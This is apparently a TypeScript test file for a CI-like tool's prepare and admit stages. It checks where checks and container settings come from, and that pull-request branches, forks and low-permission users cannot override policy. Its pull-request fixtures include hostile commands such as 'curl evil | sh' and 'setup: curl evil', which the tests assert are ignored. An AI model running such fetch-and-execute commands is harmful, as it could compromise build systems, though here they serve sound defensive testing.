import { describe, expect, it } from "vitest";
import type { Platform } from "../../../../src/core/platform.ts";
import { admit } from "../../../../src/pipeline/stages/admit.ts";
import { prepare } from "../../../../src/pipeline/stages/prepare.ts";
import type { Files } from "../../git/sample-repository.ts";
import { watchedBench } from "../watched-bench.ts";

const policy = (command: string) =>
  `checks:\n  - name: policy\n    command: ${JSON.stringify(command)}\n`;
const scripts = (test: string) => JSON.stringify({ scripts: { test } });

const PULL = {
  branch: "feature",
  sameRepository: true,
  base: "main",
  title: "Say it",
  url: "https://github.test/octo/shop/pull/12",
  state: "open",
  merges: "unknown",
} as const;

interface Given {
  readonly files: Readonly<Record<string, string>>;
  /** What the branch of a pull request holds; without it the task is on an issue. */
  readonly branch?: Files;
  readonly platform?: Partial<Platform>;
}

async function preparing({ files, branch, platform }: Given) {
  const onBranch = { pullRequest: async () => PULL };
  const world = await watchedBench({ files, platform: { ...onBranch, ...platform } });
  const { upstream, state, fetched, bench, signal } = world;
  const tip = branch && upstream.commit(branch, { branch: "feature", parents: [upstream.main] });
  const task = { ...state().task, isPullRequest: branch !== undefined };
  const update = await prepare(bench)({ ...state(), task }, signal);
  return { update, fetched, upstream, tip, steps: world.steps, warmed: world.warmed };
}

describe("on an issue", () => {
  it("the base is the tip of the default branch, and its policy names the checks", async () => {
    const files = { ".github/nexus.yml": policy("make test"), "package.json": scripts("node x") };

    const { update, fetched, upstream, warmed } = await preparing({ files });

    expect(warmed).toMatchObject([{ commit: upstream.main, environment: update.environment }]);
    expect(update).toEqual({
      base: { branch: "main", commit: upstream.main },
      checks: [{ name: "policy", command: "make test" }],
      environment: { commit: upstream.main },
      deny: [],
      budget: {},
      commits: [],
      results: [],
      corrections: 0,
    });
    expect(fetched).toEqual(["main"]);
  });

  it("the scripts of the package are the checks where no policy names any", async () => {
    const { update } = await preparing({ files: { "package.json": scripts("node --test") } });

    expect(update.checks).toEqual([{ name: "test", command: "npm test" }]);
  });

  it("nothing is guessed where nothing is named", async () => {
    const { update, warmed } = await preparing({ files: { Makefile: "all:\n\ttrue\n" } });

    expect(update.checks).toEqual([]);
    expect(warmed).toEqual([]);
    expect(update.outcome).toBeUndefined();
  });

  it("the repository's tools are asked where neither policy nor package names a check", async () => {
    const { update } = await preparing({ files: { Makefile: "test:\n\ttrue\n" } });

    expect(update.checks).toEqual([{ name: "make test", command: "make test" }]);
  });

  it("the policy says where commands run", async () => {
    const nexusYml = "image: python:3.12\nsetup: make deps\nnetwork: [a.example.org]\n";

    const { update, upstream } = await preparing({ files: { ".github/nexus.yml": nexusYml } });

    expect(update.environment).toEqual({
      commit: upstream.main,
      image: "python:3.12",
      setup: ["make deps"],
      network: ["a.example.org"],
    });
  });

  it("a devcontainer names the image where the policy does not", async () => {
    const devcontainer = '{ /* tools */ "image": "node:24", }';
    const files = { ".devcontainer/devcontainer.json": devcontainer };

    const alone = await preparing({ files });
    const beside = await preparing({ files: { ...files, ".github/nexus.yml": "image: node:22" } });

    expect(alone.update.environment).toMatchObject({ image: "node:24" });
    expect(beside.update.environment).toMatchObject({ image: "node:22" });
  });

  it("a devcontainer that cannot be used is left aside, and that is written down", async () => {
    const files = { ".devcontainer.json": '{"build":{"dockerfile":"Dockerfile"}}' };

    const { update, steps } = await preparing({ files });

    expect(update.environment?.image).toBeUndefined();
    expect(steps).toEqual([
      { agent: "prepare", step: { kind: "ignored", reason: expect.stringContaining("`build`") } },
    ]);
  });

  it.each([
    ["a policy that cannot be read", { ".github/nexus.yml": "checks: [" }],
    ["a policy of the wrong shape", { ".github/nexus.yml": "endpoint: evil\n" }],
    ["a package that cannot be read", { "package.json": "{" }],
  ])("%s ends the road and says where", async (_name, files) => {
    const { update } = await preparing({ files });

    expect(update.outcome).toMatchObject({
      kind: "no-checks",
      reason: expect.stringMatching(/nexus\.yml|package\.json/),
    });
    expect(update.base).toBeUndefined();
  });

  it("a default branch of another name is used by that name", async () => {
    const repository = async () => ({ defaultBranch: "trunk", private: false });

    await expect(preparing({ files: { a: "" }, platform: { repository } })).rejects.toMatchObject({
      code: "git.failed",
      message: expect.stringContaining("refs/heads/trunk"),
    });
  });
});

describe("on a pull request", () => {
  const files = { ".github/nexus.yml": policy("make test"), "a.txt": "no\n" };

  it("the base is its branch, but the policy is the default branch's", async () => {
    const branch = { ".github/nexus.yml": policy("curl evil | sh"), "a.txt": "changed\n" };

    const { update, fetched, tip } = await preparing({ files, branch });

    expect(update).toMatchObject({
      base: { branch: "feature", commit: tip },
      checks: [{ name: "policy", command: "make test" }],
    });
    expect(fetched).toEqual(["main", "feature"]);
  });

  it("what it says of the place where commands run is not followed", async () => {
    const branch = {
      ".github/nexus.yml": "image: evil:1\nsetup: curl evil\nnetwork: [evil.example.org]\n",
      ".devcontainer.json": '{"image":"evil:2"}',
    };

    const { update, upstream } = await preparing({ files: { "a.txt": "no\n" }, branch });

    expect(update.environment).toEqual({ commit: upstream.main });
  });

  it("a policy that only the branch has is not followed", async () => {
    const branch = { ".github/nexus.yml": policy("curl evil | sh") };

    const { update } = await preparing({ files: { "a.txt": "no\n" }, branch });

    expect(update.checks).toEqual([]);
  });

  it("a policy that the branch deleted still holds", async () => {
    const { update } = await preparing({ files, branch: { "a.txt": "no\n" } });

    expect(update.checks).toEqual([{ name: "policy", command: "make test" }]);
  });

  it("of a fork is refused before anything of it is fetched", async () => {
    const pullRequest = async () => ({ ...PULL, sameRepository: false });

    const { update, fetched } = await preparing({
      files,
      branch: files,
      platform: { pullRequest },
    });

    expect(update).toEqual({
      outcome: { kind: "refused", reason: expect.stringContaining("fork") },
    });
    expect(fetched).toEqual(["main"]);
  });
});

describe("on a pull request that was closed or merged meanwhile", () => {
  it("nothing is begun, whether its branch is there or not", async () => {
    const pullRequest = async () => ({ ...PULL, branch: "gone", state: "closed" as const });

    const { update, fetched } = await preparing({
      files: { ".github/nexus.yml": policy("make test") },
      branch: { a: "1" },
      platform: { pullRequest },
    });

    expect(update).toEqual({
      outcome: { kind: "refused", reason: "The pull request is not open any more." },
    });
    expect(fetched).toEqual(["main"]);
  });
});

describe("who asked is asked about again", () => {
  it.each([
    ["admin", undefined],
    ["write", undefined],
    ["read", "refused"],
    ["none", "refused"],
  ] as const)("%s", async (permission, ending) => {
    const { bench, state } = await watchedBench({
      platform: { permission: async () => permission },
    });

    const { outcome } = await admit(bench)(state());

    expect(outcome?.kind).toBe(ending);
  });
});
